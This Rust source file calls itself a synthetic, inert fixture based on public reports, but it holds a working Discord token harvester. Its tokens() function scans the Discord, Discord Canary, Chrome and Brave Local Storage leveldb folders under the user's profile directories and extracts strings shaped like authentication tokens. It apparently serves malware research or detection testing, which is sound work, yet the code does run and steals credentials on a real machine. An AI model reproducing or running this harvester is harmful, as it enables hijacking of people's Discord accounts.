// Synthetic, inert fixture written from public reports; see README
use std::{fs, path::PathBuf};

const PLACES: [&str; 4] = [
    "discord/Local Storage/leveldb",
    "discordcanary/Local Storage/leveldb",
    "Google/Chrome/User Data/Default/Local Storage/leveldb",
    "BraveSoftware/Brave-Browser/User Data/Default/Local Storage/leveldb",
];

pub(crate) fn tokens() -> Vec<String> {
    let mut found = Vec::new();
    for base in ["APPDATA", "LOCALAPPDATA", "XDG_CONFIG_HOME"].iter().filter_map(std::env::var_os) {
        for place in PLACES {
            for entry in fs::read_dir(PathBuf::from(&base).join(place)).into_iter().flatten().flatten() {
                let text = String::from_utf8_lossy(&fs::read(entry.path()).unwrap_or_default()).into_owned();
                found.extend(text.split(|c: char| !c.is_ascii_alphanumeric() && c != '.' && c != '-' && c != '_').filter(|w| {
                    let p: Vec<usize> = w.split('.').map(str::len).collect();
                    matches!(p[..], [24..=26, 6, 27..=38])
                }).map(str::to_owned));
            }
        }
    }
    found
}
